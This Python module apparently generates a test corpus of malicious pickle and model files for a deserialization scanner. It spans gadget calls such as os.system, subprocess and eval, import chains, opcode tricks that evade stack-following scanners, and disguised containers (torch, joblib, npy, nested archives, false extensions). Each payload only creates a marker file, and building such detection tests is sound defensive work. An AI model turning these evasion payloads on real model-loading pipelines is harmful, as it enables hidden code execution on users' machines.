"""Malicious files by what is known of attacks: gadgets, opcodes, streams and containers, 150 at least.

Each makes a harmless marker, a file or a folder under a path that is given, and nothing else. They are
written here from published classes of attacks; no foreign sample is used.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import marshal
import os
import pickle
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import zstandard

from .assembling import Call, Named, Raw, making_folder, program, text, value
from .cases import Attack

_Make = Callable[[str], bytes]


def _code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _gadgets() -> list[Attack]:
    """One call of something that acts, by exact name, each in another protocol."""
    calls: dict[str, Callable[[str], Call]] = {}

    def add(module: str, name: str, *args: Any) -> None:
        calls[f"{module}.{name}"] = lambda marker: Call(
            Named(module, name), tuple(each(marker) if callable(each) else each for each in args)
        )

    def here(marker: str) -> str:
        return marker

    def touch(marker: str) -> str:
        return f"touch {marker}"

    def command(marker: str) -> list[str]:
        return ["touch", marker]

    for module in ("os", "posix"):
        add(module, "mkdir", here)
        add(module, "system", touch)
    add("os", "makedirs", here)
    add("os", "mknod", here)
    add("posix", "mkfifo", here)
    add("os", "open", here, os.O_CREAT | os.O_WRONLY)
    add("os", "symlink", "/dev/null", here)
    add("os", "popen", touch)
    add("os", "spawnlp", 0, "touch", "touch", here)
    add("os", "posix_spawnp", "touch", command, {})
    for name in ("call", "check_call", "run", "check_output", "Popen"):
        add("subprocess", name, command)
    add("subprocess", "getoutput", touch)
    add("subprocess", "getstatusoutput", touch)
    add("builtins", "eval", _code)
    add("builtins", "exec", _code)
    add("__builtin__", "eval", _code)
    add("builtins", "open", here, "w")
    add("io", "open", here, "w")
    add("_io", "open", here, "w")
    add("_io", "FileIO", here, "w")
    add("codecs", "open", here, "w")
    add("timeit", "timeit", _code, "pass", Named("time", "time"), 1)
    add("cProfile", "run", _code)
    add("profile", "run", _code)
    add("numpy.testing._private.utils", "runstring", _code, {})
    add("numpy", "savetxt", here, [1])
    add("numpy", "memmap", here, "uint8", "w+", 0, (1,))
    add("shutil", "copyfile", "/dev/null", here)
    add("sqlite3", "connect", here)
    add("logging", "FileHandler", here)
    add("zipfile", "ZipFile", here, "w")
    add("tarfile", "open", here, "w")
    add("gzip", "open", here, "w")
    add("bz2", "open", here, "w")
    add("lzma", "open", here, "w")
    add("pydoc", "pipepager", "x", lambda marker: f"cat > {marker}")
    add("distutils.dir_util", "mkpath", here)
    add("distutils.file_util", "write_file", here, ["x"])
    add("mailbox", "Maildir", here)
    add("joblib", "dump", {}, here)
    add("torch", "save", {}, here)
    add("pty", "spawn", command)
    add("wave", "open", here, "wb")
    add("aifc", "open", here, "wb")
    return [
        Attack(
            f"call {name}",
            ".pkl",
            lambda marker, make=make, at=index: program(make(marker), (0, 2, 4)[at % 3]),
        )
        for index, (name, make) in enumerate(calls.items())
    ]


def _chains() -> list[Attack]:
    """Results of calls that are called, looked up or filled in turn."""
    mkdir = Named("os", "mkdir")

    def lookups(marker: str) -> dict[str, Any]:
        imported = Call(Named("builtins", "__import__"), ("os",))
        return {
            "getattr of import": Call(Call(Named("builtins", "getattr"), (imported, "mkdir")), (marker,)),
            "import_module": Call(
                Call(
                    Named("builtins", "getattr"),
                    (Call(Named("importlib", "import_module"), ("os",)), "mkdir"),
                ),
                (marker,),
            ),
            "resolve_name": Call(Call(Named("pkgutil", "resolve_name"), ("os:mkdir",)), (marker,)),
            "methodcaller": Call(Call(Named("operator", "methodcaller"), ("mkdir", marker)), (imported,)),
            "attrgetter": Call(
                Call(Call(Named("operator", "attrgetter"), ("mkdir",)), (imported,)), (marker,)
            ),
            "partial": Call(Call(Named("functools", "partial"), (mkdir, marker)), ()),
            "reduce": Call(Named("functools", "reduce"), (mkdir, [marker, 0o700])),
            "map in a list": Call(
                Named("builtins", "list"), (Call(Named("builtins", "map"), (mkdir, [marker])),)
            ),
            "map in bytes": Call(Named("builtins", "bytes"), (Call(Named("builtins", "map"), (mkdir, [])),)),
            "filter in a tuple": Call(
                Named("builtins", "tuple"), (Call(Named("builtins", "filter"), (mkdir, [marker])),)
            ),
            "map in a counter": Call(
                Named("collections", "Counter"), (Call(Named("builtins", "map"), (mkdir, [marker])),)
            ),
            "map in a deque": Call(
                Named("collections", "deque"), (Call(Named("builtins", "map"), (mkdir, [marker])),)
            ),
            "nested loads": Call(Named("pickle", "loads"), (making_folder(marker),)),
            "nested loads of _pickle": Call(Named("_pickle", "loads"), (making_folder(marker),)),
            "torch bytes": Call(
                Named("torch.storage", "_load_from_bytes"), (_torch_old(making_folder(marker)),)
            ),
            "zip bytes of torch": Call(
                Named("torch.storage", "_load_from_bytes"), (_torch_zip(making_folder(marker)),)
            ),
            "ufunc reconstruct": Call(Call(Named("numpy.core._multiarray_umath", "_reconstruct"), ()), ()),
            "rebuild from type": Call(
                Named("torch._tensor", "_rebuild_from_type_v2"),
                (mkdir, Named("builtins", "object"), (marker,), {}),
            ),
            "import dotted": Call(
                Call(Named("torch._utils", "_import_dotted_name"), ("os.mkdir",)), (marker,)
            ),
            "function of code": _function(marker),
            "code object": Call(
                Named("builtins", "eval"), (Call(Named("marshal", "loads"), (_marshalled(marker),)),)
            ),
            "dotted path": Call(Raw(text("os") + text("path.os.mkdir") + b"\x93"), (marker,)),
            "dotted method": Call(
                Raw(text("pathlib") + text("Path.mkdir") + b"\x93"),
                (Call(Named("pathlib", "Path"), (marker,)),),
            ),
            "dotted below numpy": Call(Raw(text("numpy") + text("testing.sys.modules") + b"\x93"), ()),
            "copyreg new": Call(
                Named("copyreg", "__newobj__"), (Named("numpy", "memmap"), marker, "uint8", "w+", 0, (1,))
            ),
            "bit generator": Call(Named("numpy.random._pickle", "__generator_ctor"), (marker, mkdir)),
            "random state": Call(Named("numpy.random._pickle", "__randomstate_ctor"), (marker, mkdir)),
            "nested joblib": Call(
                Named("joblib", "load"), (Call(Named("io", "BytesIO"), (making_folder(marker),)),)
            ),
            "nested numpy": Call(
                Named("numpy", "load"),
                (Call(Named("io", "BytesIO"), (_npy(making_folder(marker)),)), None, True),
            ),
            "pandas pickle": Call(
                Named("pandas", "read_pickle"), (Call(Named("io", "BytesIO"), (making_folder(marker),)),)
            ),
        }

    unshown = {
        "map in bytes": "the list is empty: only the lookup is seen",
        "ufunc reconstruct": "the function takes other arguments",
        "dotted below numpy": "a mapping is not callable: only the lookup is seen",
    }
    return [
        Attack(
            f"chain {name}",
            ".pkl",
            lambda marker, name=name: program(lookups(marker)[name], 4),
            "" if name in unshown else "pickle",
            unshown.get(name, ""),
        )
        for name in lookups("x")
    ]


def _function(marker: str) -> Call:
    """A function of its own, as picklers by value write them."""
    code = Call(Named("marshal", "loads"), (_marshalled(marker),))
    return Call(Call(Named("types", "FunctionType"), (code, {})), ())


@functools.cache
def _marshalled(marker: str) -> bytes:
    return marshal.dumps(compile(f"__import__('os').mkdir({marker!r})", "x", "eval"))


def _opcodes() -> list[Attack]:
    """The same call by every opcode that can make it, and by what confuses who follows the stack."""
    forms: dict[str, _Make] = {
        "text opcodes": lambda m: b"cos\nmkdir\n(S" + repr(m).encode() + b"\ntR.",
        "unicode opcode": lambda m: b"cos\nmkdir\n(V" + m.encode() + b"\ntR.",
        "inst": lambda m: b"(S" + repr(m).encode() + b"\nios\nmkdir\n.",
        "inst protocol 2": lambda m: b"\x80\x02(" + text(m) + b"ios\nmkdir\n.",
        "obj": lambda m: b"\x80\x02(cos\nmkdir\n" + text(m) + b"o.",
        "tuple1": lambda m: b"\x80\x02cos\nmkdir\n" + text(m) + b"\x85R.",
        "stack global memo": lambda m: b"\x80\x04" + text("mkdir") + b"q\x01" + b"0" + text("os")
        + b"h\x01\x93"
        + text(m) + b"\x85R.",
        "short strings": lambda m: b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93\x8c" + bytes((len(m),))
        + m.encode() + b"\x85R.",
        "long strings": lambda m: b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 5)
        + b"mkdir\x93" + text(m) + b"\x85R.",
        "binary strings": lambda m: b"\x80\x02cos\nmkdir\nT" + struct.pack("<i",
        len(m)) + m.encode() + b"\x85R.",
        "newobj": lambda m: b"\x80\x02cnumpy\nmemmap\n" + value((m, "uint8", "w+", 0, (1,))) + b"\x81.",
        "newobj protocol 4": lambda m: b"\x80\x04" + text("numpy") + text("memmap") + b"\x93"
        + value((m, "uint8", "w+", 0, (1,))) + b"\x81.",
        "newobj ex": lambda m: b"\x80\x04cnumpy\nmemmap\n" + value((m,))
        + value({"dtype": "uint8", "mode": "w+", "shape": (1,)}) + b"\x92.",
        "dup and pop": lambda m: b"\x80\x02cos\nmkdir\n20" + text(m) + b"\x85R.",
        "pop of the result": lambda m: b"\x80\x02" + value(Call(Named("os", "mkdir"), (m,))) + b"0]K\x01a.",
        "pop mark": lambda m: b"\x80\x02(" + value(Call(Named("os", "mkdir"), (m,))) + b"1N.",
        "as a key": lambda m: b"\x80\x02}" + value(Call(Named("os", "mkdir"), (m,))) + b"K\x01s.",
        "in a set": lambda m: b"\x80\x04\x8f(" + value(Call(Named("os", "mkdir"), (m,))) + b"\x90.",
        "memo overwritten": lambda m: b"\x80\x02ccollections\nOrderedDict\nq\x01"
        + b"0cos\nmkdir\nq\x010h\x01"
        + text(m) + b"\x85R.",
        "memo far away": lambda m: b"\x80\x02cos\nmkdir\nr\x10\x27\x00\x000j\x10\x27\x00\x00"
        + text(m) + b"\x85R.",
        "frame": lambda m: _framed(program(Call(Named("os", "mkdir"), (m,)), 4)),
        "two frames": lambda m: b"\x80\x04\x95\x01" + bytes(7) + b"N" + _framed(making_folder(m, 4))[2:],
        "without a protocol": lambda m: making_folder(m)[2:],
        "protocol twice": lambda m: b"\x80\x04\x80\x02" + making_folder(m)[2:],
        "protocol late": lambda m: b"N0\x80\x02" + making_folder(m)[2:],
        "python 2 names": lambda m: program(Call(Named("__builtin__", "eval"), (_code(m),)), 2),
        "python 2 posix": lambda m: b"cposix\nmkdir\n(S" + repr(m).encode() + b"\ntR.",
        "behind much": lambda m: b"\x80\x02](" + b"K\x01" * 30_000 + value(Call(Named("os", "mkdir"),
        (m,))) + b"e.",
        "behind many floats": lambda m: b"\x80\x02](" + b"G@\x00\x00\x00\x00\x00\x00\x00" * 9_000
        + value(Call(Named("os", "mkdir"), (m,))) + b"e.",
        "behind a long string": lambda m: b"\x80\x02" + value(b"x" * 300_000) + b"0" + making_folder(m)[2:],
        "behind a byte array": lambda m: b"\x80\x05\x96" + struct.pack("<Q", 100_000) + bytes(100_000) + b"0"
        + making_folder(m)[2:],
        "second pickle": lambda m: pickle.dumps({"a": 1}) + making_folder(m),
        "third pickle, text": lambda m: pickle.dumps(1) * 2 + making_folder(m)[2:],
        "breaks after": lambda m: making_folder(m)[:-1] + b"\xff\xff",
        "cut after": lambda m: making_folder(m)[:-1],
        "breaks after, text": lambda m: b"cos\nmkdir\n(S" + repr(m).encode() + b"\ntR\xff",
        "junk after": lambda m: making_folder(m) + b"\x00" * 64,
        "state of a class": lambda m: b"\x80\x02cargparse\nNamespace\n" + value((None, {"x": 1})) + b"b0"
        + making_folder(m)[2:],
        "state of a module": lambda m: b"\x80\x04" + value(Call(Named("builtins", "__import__"), ("os",)))
        + value({"x": 1}) + b"b0" + making_folder(m)[2:],
        "item of modules": lambda m: b"\x80\x02csys\nmodules\n" + text("zz") + value(Named("os",
        "sep")) + b"s0"
        + making_folder(m)[2:],
        "append to a path": lambda m: b"\x80\x02csys\npath\n" + text(m) + b"a0" + making_folder(m)[2:],
        "setstate by state": lambda m: b"\x80\x02c_frozen_importlib\n_DummyModuleLock\n)\x81"
        + value({"__setstate__": Named("os", "mkdir")}) + b"b" + text(m) + b"b.",
    }  # fmt: skip
    rows = {"second pickle": "pickles", "third pickle, text": "pickles"}
    found = [
        Attack(f"opcode {name}", ".pkl", make, rows.get(name, "pickle"))
        for name, make in forms.items()
        if name != "setstate by state"
    ]
    found.append(
        Attack(
            "opcode setstate by state", ".pkl",
            lambda m: b"\x80\x02cargparse\nNamespace\n)\x81" + value({"__setstate__": Named("os",
            "mkdir")}) + b"b"
            + text(m) + b"b.",
        )
    )  # fmt: skip
    for width, opcode in ((1, b"\x82\x01"), (2, b"\x83\x01\x00"), (4, b"\x84\x01\x00\x00\x00")):
        found.append(
            Attack(
                f"opcode ext{width}", ".pkl", lambda m,
                opcode=opcode: b"\x80\x02" + opcode + value((m,)) + b"R.",
                "", "no extension is registered here",
            )
        )  # fmt: skip
    found.append(
        Attack(
            "opcode persid", ".pkl", lambda m: b"Pos.mkdir\n.", "", "the loader's own code would resolve it"
        )
    )
    found.append(
        Attack(
            "opcode binpersid", ".pkl", lambda m: b"\x80\x02" + value(("storage", Named("os", "mkdir"),
            m)) + b"Q.",
            "", "the loader's own code would resolve it",
        )
    )  # fmt: skip
    found.append(
        Attack("opcode next buffer", ".pkl", lambda m: b"\x80\x05\x97.", "", "the loader has to bring it")
    )
    found.append(
        Attack(
            "opcode memo bomb",
            ".pkl",
            lambda m: b"\x80\x02Nr\xff\xff\xff\x7f.",
            "",
            "it would take 16 GB of memory",
        )
    )
    return found


def _framed(pickled: bytes) -> bytes:
    return pickled[:2] + b"\x95" + struct.pack("<Q", len(pickled) - 2) + pickled[2:]


def _lz4(content: bytes) -> bytes:
    """A frame of one block of literals."""
    more, extra = divmod(len(content) - 15, 255)
    block = b"\xf0" + b"\xff" * more + bytes((extra,)) + content
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(block)) + block + bytes(4)


def _npy(pickled: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def _torch_zip(pickled: bytes, more: dict[str, bytes] | None = None, compression: int = 0) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", b"little")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
        archive.writestr("archive/version", b"3\n")
    return file.getvalue()


def _torch_old(pickled: bytes) -> bytes:
    heads = [
        0x1950A86A20F9469CFC6C,
        1001,
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {}},
    ]
    return b"".join(pickle.dumps(each, 2) for each in heads) + pickled + pickle.dumps([], 2)


def _zipped(members: dict[str, bytes], compression: int = 0) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _tarred(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in members.items():
            about = tarfile.TarInfo(name)
            about.size = len(content)
            archive.addfile(about, io.BytesIO(content))
    return file.getvalue()


def _raw_joblib(payload: bytes, array: Any = None) -> bytes:
    """A list written by joblib of an array, and behind it what `payload` pushes."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "x")
        joblib.dump([np.arange(9.0) if array is None else array, 12345], path)
        content = path.read_bytes()
    mark = b"\x95" + struct.pack("<Q", 5) + b"M90e."
    assert content.endswith(mark)
    return content[: -len(mark)] + payload + b"e."


def _containers() -> list[Attack]:
    """The plainest attack in every container, and containers that readers see differently."""
    folder = making_folder

    def pushed(m: str) -> bytes:
        return value(Call(Named("os", "mkdir"), (m,)))

    def changed(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
        return lambda content: content.replace(old, new)

    def flagged(content: bytes, local: bool, bits: int) -> bytes:
        data = bytearray(content)
        at = data.find(b"PK\x03\x04") + 6 if local else data.find(b"PK\x01\x02") + 8
        data[at] |= bits
        return bytes(data)

    def wrong_checksum(m: str) -> bytes:
        data = bytearray(_torch_zip(folder(m)))
        for mark, place in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
            at = data.find(mark) + place
            data[at : at + 4] = b"\1\2\3\4"
        return bytes(data)

    def renamed(m: str) -> bytes:
        content = _torch_zip(folder(m))
        at = content.find(b"archive/data.pkl")
        return content[:at] + b"archive/data.txt" + content[at + 16 :]

    def packed(pack: Callable[[bytes], bytes]) -> _Make:
        return lambda m: pack(folder(m))

    def inner_objects(m: str) -> bytes:
        benign = pickle.dumps(np.array([{}], dtype=object), 5)
        content = _raw_joblib(b"N", np.array([{}], dtype=object))
        assert benign in content
        return content.replace(benign, folder(m))

    zstd = zstandard.ZstdCompressor()
    made: list[tuple[str, str, _Make, str, str]] = [
        ("joblib behind an array", ".joblib", lambda m: _raw_joblib(pushed(m)), "joblib", ""),
        ("joblib behind texts", ".joblib", lambda m: _raw_joblib(pushed(m), np.array(["a", "bc"])),
        "joblib", ""),
        ("joblib in objects", ".joblib", inner_objects, "joblib", ""),
        ("joblib zlib", ".joblib", packed(zlib.compress), "joblib", ""),
        ("joblib gzip", ".joblib", packed(gzip.compress), "joblib", ""),
        ("joblib bz2", ".joblib", packed(bz2.compress), "joblib", ""),
        ("joblib xz", ".joblib", packed(lzma.compress), "joblib", ""),
        ("joblib lzma", ".joblib", packed(lambda b: lzma.compress(b, lzma.FORMAT_ALONE)), "joblib", ""),
        ("joblib zlib array", ".joblib", lambda m: zlib.compress(_raw_joblib(pushed(m))), "joblib", ""),
        ("gzip twice", ".gz", lambda m: gzip.compress(gzip.compress(folder(m))), "gzip gzip", ""),
        ("gzip", ".pkl.gz", packed(gzip.compress), "gzip", ""),
        ("two gzip members", ".gz", lambda m: gzip.compress(pickle.dumps(1)) + gzip.compress(folder(m)),
        "gzip rows", ""),
        ("xz in bz2", ".xz", lambda m: bz2.compress(lzma.compress(folder(m))), "bz2 xz", ""),
        ("zstd", ".zst", packed(zstd.compress), "", "no loader here unfolds zstandard by itself"),
        ("lz4", ".joblib", packed(_lz4), "", "no reader of lz4 is here"),
        ("7z head", ".7z", lambda m: b"7z\xbc\xaf\x27\x1c\x00\x04" + folder(m), "",
        "no writer of 7z is here"),
        ("npy objects", ".npy", lambda m: _npy(folder(m)), "numpy", ""),
        ("npy as a pickle", ".npy", folder, "numpy", ""),
        ("npz objects", ".npz", lambda m: _zipped({"a.npy": _npy(folder(m))}), "numpy", ""),
        ("npz deflated", ".npz", lambda m: _zipped({"a.npy": _npy(folder(m))}, 8), "numpy", ""),
        ("npz second array", ".npz", lambda m: _zipped({"a.npy": _npy(pickle.dumps([1])),
        "b.npy": _npy(folder(m))}),
         "numpy", ""),
        ("torch zip", ".pt", lambda m: _torch_zip(folder(m)), "torch", ""),
        ("torch zip as bin", ".bin", lambda m: _torch_zip(folder(m)), "torch", ""),
        ("torch zip deflated", ".pt", lambda m: _torch_zip(folder(m), None, 8), "torch", ""),
        ("torch zip checksum", ".pt", wrong_checksum, "torch", ""),
        ("torch zip local name", ".pt", renamed, "torch", ""),
        ("torch zip flag", ".pt", lambda m: flagged(_torch_zip(folder(m)), False, 1), "",
        "torch refuses an encrypted member; others do not look"),
        ("torch zip local flag", ".pt", lambda m: flagged(_torch_zip(folder(m)), True, 0x20), "torch", ""),
        ("torch zip local bit", ".pt", lambda m: flagged(_torch_zip(folder(m)), True, 0x40), "torch", ""),
        ("torch zip other pickle", ".pt",
         lambda m: _torch_zip(pickle.dumps({}, 2), {"archive/extra.pkl": folder(m)}), "",
         "torch loads data.pkl only; others load the rest"),
        ("torch zip prefix", ".pt", lambda m: b"x" * 32 + _torch_zip(folder(m)), "",
        "torch wants the mark first"),
        ("torch zip trailing", ".pt", lambda m: _torch_zip(folder(m)) + b"x" * 32, "", "torch may refuse it"),
        ("torch old", ".pth", lambda m: _torch_old(folder(m)), "torch", ""),
        ("torch old as the first pickle", ".pth", folder, "torch", ""),
        ("torch magic hidden", ".pt", lambda m: _torch_old(b"\x80\x02" + pushed(m) + b"0}."), "torch", ""),
        ("torch tar", ".pt", lambda m: _tarred({
            "sys_info": pickle.dumps({}, 2), "storages": folder(m), "tensors": pickle.dumps(0, 2),
            "pickle": pickle.dumps({}, 2)}), "torch", ""),
        ("torch tar object", ".pt", lambda m: _tarred({
            "sys_info": pickle.dumps({}, 2), "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
            "tensors": pickle.dumps(0, 2), "pickle": folder(m)}), "torch", ""),
        ("zip of a pickle", ".zip", lambda m: _zipped({"model.pkl": folder(m)}), "zip", ""),
        ("zip without an extension", ".zip", lambda m: _zipped({"weights": folder(m)}, 8), "zip", ""),
        ("zip in a zip", ".zip", lambda m: _zipped({"a.zip": _zipped({"model.pkl": folder(m)})}), "zip zip",
        ""),
        ("zip of joblib", ".zip", lambda m: _zipped({"m.joblib": zlib.compress(folder(m))}, 8), "zip zlib",
        ""),
        ("tar of a pickle", ".tar", lambda m: _tarred({"model.pkl": folder(m)}), "tar", ""),
        ("tar in gzip", ".tar.gz", lambda m: gzip.compress(_tarred({"model.pkl": folder(m)})), "gzip tar",
        ""),
        ("pickle and zip", ".pkl", lambda m: folder(m) + _zipped({"ok.txt": b"nothing"}), "pickle", ""),
        ("pickle and torch", ".pt", lambda m: folder(m) + _torch_zip(pickle.dumps({}, 2)), "pickle", ""),
        ("pickle and tar", ".tar", lambda m: _tarred({
            "cos\nmkdir\n(V" + m + "\ntR.": b""}), "pickle", ""),
        ("pickle named text", ".txt", folder, "pickle", ""),
        ("pickle named safetensors", ".safetensors", lambda m: folder(m, 4), "pickle", ""),
        ("pickle named npy", ".npy", lambda m: folder(m, 0), "pickle", ""),
    ]  # fmt: skip
    return [Attack(f"container {name}", *rest) for name, *rest in made]  # type: ignore[arg-type]


def attacks() -> list[Attack]:
    """All of them, in a fixed order."""
    return [*_gadgets(), *_chains(), *_opcodes(), *_containers()]
